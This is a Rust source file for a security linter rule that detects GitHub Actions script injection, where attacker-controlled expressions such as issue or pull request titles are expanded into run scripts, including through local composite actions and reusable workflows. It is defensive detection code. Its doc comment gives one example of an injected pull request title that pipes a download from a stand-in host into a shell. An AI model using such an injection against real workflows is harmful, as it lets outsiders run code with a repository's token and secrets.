use super::{attacker_controlled, expressions, steps, tainted, tainted_by};
use crate::parse::Document;
use crate::parse::workflow::{self, action_name};
use crate::parse::yaml::Node;
use crate::rules::{Context, declare_rule};
use crate::source::Span;

declare_rule! {
    /// ## What it does
    /// Flags an attacker-controllable expression expanded into code: a `${{ … }}` in a step's
    /// `run:` (workflows and composite actions) or in a code input of a well-known action
    /// (`actions/github-script` `script`, `azure/cli` and `azure/powershell` `inlineScript`,
    /// `Amadevus/pwsh-script` `script`, `mikefarah/yq` `cmd`),
    /// whose value comes from a context that outsiders choose — `github.event.issue.title`,
    /// `…issue.body`, `…pull_request.title`, `…pull_request.body`, `…pull_request.head.ref`,
    /// `github.head_ref`, `…comment.body`, `…review.body`, `…review_comment.body`,
    /// `…discussion.title`, commit messages and author names, `…workflow_run.head_branch`,
    /// `…workflow_run.display_title`, merge-queue commit messages and authors,
    /// `…client_payload.*`, and objects containing them (`toJSON(github.event)`). Label names
    /// are set by maintainers and are not reported, even through `join(…)`.
    ///
    /// `${{ env.X }}` counts when `X` is set, at the step, job or workflow level, from such a
    /// context. The decision is made on the parsed expression: `contains(github.event.issue.title, 'x')`
    /// or `github.head_ref == 'main'` yield booleans and are fine; `format(…)`, `join(…)`,
    /// `toJSON(…)`, `||` and `&&` pass values through. Values only maintainers set (release
    /// fields, `workflow_dispatch` inputs, pushed tag names) and step outputs are not reported.
    /// The finding points at the expression inside the script.
    ///
    /// **Through the repository's own callees.** A tainted value passed in `with:` to a local
    /// composite action (`uses: ./…`) or a local reusable workflow (a job's `uses:
    /// ./.github/workflows/….yml`) is reported at the caller's expression when the callee
    /// expands that input into code — directly (`${{ inputs.x }}`), through `env.X` set from
    /// it, or by passing it on to a further local callee (followed up to 8 deep, each file and
    /// input once). Each expansion along the chain is a related location in the callee's file.
    /// A composite action's input that the caller leaves out takes its default, evaluated in
    /// the caller: a tainted default is reported at the caller's `uses:`. The callee alone is
    /// not reported (its inputs come from its callers), nor are remote callees. A local path
    /// is resolved from the root of the repository (the folder holding the caller's `.github`,
    /// else the nearest with `.git`, else the scan root); one that names nothing is listed
    /// as not checked.
    ///
    /// ## Why is this bad?
    /// GitHub substitutes `${{ }}` into the script text before the shell runs it. A pull request
    /// titled `"; curl evil.sh | sh; echo "` runs that command with the workflow's token and
    /// secrets — the classic GitHub Actions script injection.
    ///
    /// ## Example
    /// ```yaml
    /// on: issues
    /// jobs:
    ///   triage:
    ///     runs-on: ubuntu-24.04
    ///     steps:
    ///       - run: echo "New issue - ${{ github.event.issue.title }}"
    /// ```
    ///
    /// ## Use instead
    /// Pass the value through an environment variable, which the shell does not execute:
    /// ```yaml
    /// on: issues
    /// jobs:
    ///   triage:
    ///     runs-on: ubuntu-24.04
    ///     steps:
    ///       - run: echo "New issue - $TITLE"
    ///         env:
    ///           TITLE: ${{ github.event.issue.title }}
    /// ```
    pub static TEMPLATE_INJECTION = {
        id: "template-injection",
        summary: "attacker-controlled expression expanded into a script",
        level: Error,
        kinds: [Workflow, Action],
        tags: ["security", "injection", "external/cwe/cwe-94"],
        security_severity: Some("9.0"),
        check: Some(check),
    }
}

/// Inputs of well-known actions that are code: (action, input, what to call it).
const CODE_INPUTS: &[(&str, &str, &str)] = &[
    (
        "actions/github-script",
        "script",
        "the `github-script` script",
    ),
    ("azure/cli", "inlinescript", "the `azure/cli` inline script"),
    (
        "azure/powershell",
        "inlinescript",
        "the `azure/powershell` inline script",
    ),
    ("amadevus/pwsh-script", "script", "the `pwsh-script` script"),
    ("mikefarah/yq", "cmd", "the `yq` command line"),
];

fn check(doc: &Document, cx: &mut Context) {
    let mut reports = Vec::new();
    let workflow_env = match doc {
        Document::Workflow(root) | Document::Action(root) => root.get("env"),
        _ => None,
    };
    for (job, step) in steps(doc) {
        let code = code_values(step);
        // `${{ env.X }}` is as dangerous as the value X was set from, at the step, job or
        // workflow level (the nearest one wins).
        let envs = [
            step.get("env"),
            job.and_then(|j| j.get("env")),
            workflow_env,
        ];
        let env_origin = |var: &str| -> Option<String> {
            // Context properties are case-insensitive.
            let entry = envs.iter().flatten().find_map(|env| {
                env.as_map()?
                    .iter()
                    .find(|e| e.key_str().is_some_and(|k| k.eq_ignore_ascii_case(var)))
            })?;
            let var = entry.key_str()?;
            let text = entry.value.as_str()?;
            crate::parse::expr::find_all(text)
                .into_iter()
                .filter_map(|e| e.expr.ok())
                .find_map(|e| tainted(&e).into_iter().next())
                .map(|(context, _)| format!("env.{var}` set from `{context}"))
        };
        let source = |path: &str| -> Option<String> {
            if let Some(var) = path.strip_prefix("env.") {
                return env_origin(var);
            }
            attacker_controlled(path).then(|| path.to_string())
        };
        for (node, place) in code {
            for (span, expr) in expressions(node, &cx.file.text) {
                if let Some((context, _)) = tainted_by(&expr, &source).into_iter().next() {
                    reports.push((span, format!("`{context}` is attacker-controlled and is expanded into {place}: it can inject code")));
                }
            }
        }
    }
    let (cross_file, unresolved) = through_local_callees(doc, cx);
    for (span, what) in unresolved {
        cx.not_checked(span, what);
    }
    for (span, message) in reports {
        cx.report(span, message).help(HELP);
    }
    for found in cross_file {
        let draft = cx.report(found.span, found.message);
        draft.help(HELP);
        for (location, what) in found.sinks {
            draft.related_elsewhere(location, what);
        }
    }
}

const HELP: &str = "pass the value through `env:` (`TITLE: ${{ … }}`) and use it as a shell variable (`\"$TITLE\"`), or `process.env.TITLE` in github-script";

/// Most local callees followed from one caller expression (actions calling actions…).
const MAX_CALLEE_DEPTH: usize = 8;

/// A tainted value passed to a local composite action or reusable workflow that expands it
/// into code: the caller's expression is reported, with each expansion along the way.
struct CrossFile {
    span: Span,
    message: String,
    sinks: Vec<(crate::finding::Location, String)>,
}

/// Template injection through the repository's own callees (`uses: ./…`).
fn through_local_callees(doc: &Document, cx: &Context) -> (Vec<CrossFile>, Vec<(Span, String)>) {
    let mut out = Vec::new();
    let mut unresolved = Vec::new();
    let (root, is_workflow) = match doc {
        Document::Workflow(root) => (root, true),
        Document::Action(root) => (root, false),
        _ => return (out, unresolved),
    };
    let callers = places(root, is_workflow);
    for (caller, envs, calls_workflow) in callers {
        let Some(uses) = caller.get("uses") else {
            continue;
        };
        let Some(target) = uses.as_str().filter(|u| u.trim().starts_with("./")) else {
            continue;
        };
        let Some(path) = super::local_callee(cx, target, calls_workflow) else {
            unresolved.push((
                uses.span,
                format!(
                    "`{}` names nothing in the repository: what it does with its inputs is unknown",
                    target.trim()
                ),
            ));
            continue;
        };
        let Some(callee) = cx.project.local_yaml(&path) else {
            unresolved.push((
                uses.span,
                format!(
                    "`{}` cannot be read or parsed: what it does with its inputs is unknown",
                    target.trim()
                ),
            ));
            continue;
        };
        if !calls_workflow && !is_composite(&callee.root) {
            continue;
        }
        let source = |p: &str| -> Option<String> {
            if let Some(var) = p.strip_prefix("env.") {
                return env_taint(&envs, var, &|q| {
                    attacker_controlled(q).then(|| q.to_string())
                });
            }
            attacker_controlled(p).then(|| p.to_string())
        };
        let with = caller.get("with").and_then(Node::as_map).unwrap_or(&[]);
        for entry in with {
            let Some(input) = entry.key_str() else {
                continue;
            };
            for (span, expr) in expressions(&entry.value, &cx.file.text) {
                let Some((context, _)) = tainted_by(&expr, &source).into_iter().next() else {
                    continue;
                };
                let mut visited = Vec::new();
                let sinks = callee_sinks(cx, &path, calls_workflow, input, 0, &mut visited);
                if !sinks.is_empty() {
                    out.push(CrossFile {
                        span,
                        message: format!(
                            "`{context}` is attacker-controlled and is passed as input `{input}` to `{}`, which expands it into code: it can inject code",
                            target.trim()
                        ),
                        sinks,
                    });
                }
            }
        }
        // A composite action's input left out takes its default, evaluated in the caller.
        if calls_workflow {
            continue;
        }
        let Some(inputs) = callee.root.get("inputs").and_then(Node::as_map) else {
            continue;
        };
        for input in inputs {
            let Some(name) = input.key_str() else {
                continue;
            };
            if with
                .iter()
                .any(|e| e.key_str().is_some_and(|k| k.eq_ignore_ascii_case(name)))
            {
                continue;
            }
            let Some(default) = input.value.get("default").and_then(Node::as_str) else {
                continue;
            };
            let Some(context) = crate::parse::expr::find_all(default)
                .into_iter()
                .filter_map(|e| e.expr.ok())
                .find_map(|e| tainted(&e).into_iter().next().map(|(c, _)| c))
            else {
                continue;
            };
            let mut visited = Vec::new();
            let sinks = callee_sinks(cx, &path, false, name, 0, &mut visited);
            if !sinks.is_empty() {
                out.push(CrossFile {
                    span: uses.span,
                    message: format!(
                        "`{}` leaves input `{name}` to its default, `{context}`, which is attacker-controlled and which the action expands into code: it can inject code",
                        target.trim()
                    ),
                    sinks,
                });
            }
        }
    }
    (out, unresolved)
}

/// The values of a step that are code: its `run:`, and the code inputs of well-known actions
/// (`CODE_INPUTS`), with how to name each.
fn code_values(step: &Node) -> Vec<(&Node, &'static str)> {
    let mut code = Vec::new();
    if let Some(run) = step.get("run") {
        code.push((run, "`run:`"));
    }
    if let Some(action) = action_name(step)
        && let Some(with) = step.get("with").and_then(Node::as_map)
    {
        for (name, input, what) in CODE_INPUTS {
            if action == *name {
                code.extend(
                    with.iter()
                        .filter(|e| e.key_str().is_some_and(|k| k.eq_ignore_ascii_case(input)))
                        .map(|e| (&e.value, *what)),
                );
            }
        }
    }
    code
}

/// The places of a workflow or composite action that may call or run something: each job
/// calling a reusable workflow (with the workflow's `env`), and each step with the `env`
/// maps it sees, nearest first; and whether the place calls a workflow.
fn places(root: &Node, is_workflow: bool) -> Vec<(&Node, Vec<&Node>, bool)> {
    let mut places = Vec::new();
    if !is_workflow {
        for step in workflow::action_steps(root) {
            places.push((step, step.get("env").into_iter().collect(), false));
        }
        return places;
    }
    let workflow_env = root.get("env");
    for job in workflow::jobs(root) {
        if job.get("uses").is_some() {
            places.push((&job.entry.value, workflow_env.into_iter().collect(), true));
        }
        for step in job.steps() {
            let envs = [step.get("env"), job.get("env"), workflow_env]
                .into_iter()
                .flatten()
                .collect();
            places.push((step, envs, false));
        }
    }
    places
}

fn is_composite(root: &Node) -> bool {
    root.get("runs")
        .and_then(|r| r.get("using"))
        .and_then(Node::as_str)
        .is_some_and(|u| u.trim().eq_ignore_ascii_case("composite"))
}

/// The origin of `env.<var>` among env maps (nearest first), as `source` judges the
/// expressions it is set from.
fn env_taint(envs: &[&Node], var: &str, source: &dyn Fn(&str) -> Option<String>) -> Option<String> {
    let entry = envs.iter().find_map(|env| {
        env.as_map()?
            .iter()
            .find(|e| e.key_str().is_some_and(|k| k.eq_ignore_ascii_case(var)))
    })?;
    let text = entry.value.as_str()?;
    crate::parse::expr::find_all(text)
        .into_iter()
        .filter_map(|e| e.expr.ok())
        .find_map(|e| tainted_by(&e, source).into_iter().next())
        .map(|(origin, _)| origin)
}

/// Where the callee at `path` expands `inputs.<input>` into code, following pass-throughs to
/// further local callees: locations in chain order.
fn callee_sinks(
    cx: &Context,
    path: &std::path::Path,
    is_workflow: bool,
    input: &str,
    depth: usize,
    visited: &mut Vec<(std::path::PathBuf, String)>,
) -> Vec<(crate::finding::Location, String)> {
    let key = (path.to_path_buf(), input.to_ascii_lowercase());
    if depth >= MAX_CALLEE_DEPTH || visited.contains(&key) {
        return Vec::new();
    }
    visited.push(key);
    let Some(callee) = cx.project.local_yaml(path) else {
        return Vec::new();
    };
    let root = &callee.root;
    let wanted = format!("inputs.{}", input.to_ascii_lowercase());
    let from_input = |p: &str| (p == wanted).then(|| p.to_string());
    let places = places(root, is_workflow);
    let mut sinks = Vec::new();
    for (place, envs, calls_workflow) in places {
        let source = |p: &str| -> Option<String> {
            if let Some(var) = p.strip_prefix("env.") {
                return env_taint(&envs, var, &from_input);
            }
            from_input(p)
        };
        let code = code_values(place);
        for (node, what) in code {
            for (span, expr) in expressions(node, &callee.text) {
                if !tainted_by(&expr, &source).is_empty() {
                    sinks.push((
                        callee.location(span),
                        format!("`{wanted}` expanded into {what}"),
                    ));
                }
            }
        }
        // Pass-through to another local callee.
        let Some(next) = place
            .get("uses")
            .and_then(Node::as_str)
            .filter(|u| u.trim().starts_with("./"))
        else {
            continue;
        };
        let Some(next_path) = super::local_callee(cx, next, calls_workflow) else {
            continue;
        };
        for entry in place.get("with").and_then(Node::as_map).unwrap_or(&[]) {
            let Some(next_input) = entry.key_str() else {
                continue;
            };
            let passes = expressions(&entry.value, &callee.text)
                .iter()
                .any(|(_, e)| !tainted_by(e, &source).is_empty());
            if passes {
                sinks.extend(callee_sinks(
                    cx,
                    &next_path,
                    calls_workflow,
                    next_input,
                    depth + 1,
                    visited,
                ));
            }
        }
    }
    sinks
}
